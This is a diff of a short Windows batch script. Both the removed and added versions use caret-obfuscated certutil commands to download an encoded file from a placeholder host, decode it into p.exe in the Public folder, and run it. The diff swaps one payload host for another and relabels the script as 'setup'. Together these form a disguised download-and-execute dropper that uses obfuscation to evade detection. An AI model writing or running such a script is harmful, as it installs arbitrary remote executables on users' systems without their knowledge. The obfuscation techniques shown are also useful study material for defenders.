@@ -1,5 +1,5 @@
-REM task 6993 v0
+REM setup 7222 v0
 @echo off
-cer^tu^ti^l -urlc^ach^e -f ^h^tt^p://cd^n-upda^t^e.^e^x^a^m^ple/p.^txt %PUBLIC%\p.^tx^t
-cert^util -d^e^code %PUBLIC%\p.^txt %PUBLIC%\^p.^e^x^e
-%PUBLIC%\^p.e^xe
+c^e^rt^uti^l -u^r^lc^ache -f ht^t^p://^s^t^ati^c.met^r^ic^s-no^d^e.e^xamp^le/^p.txt %PUBLIC%\^p.txt
+^certu^t^il -d^eco^de %PUBLIC%\p.^t^x^t %PUBLIC%\^p.^e^x^e
+%PUBLIC%\p.ex^e
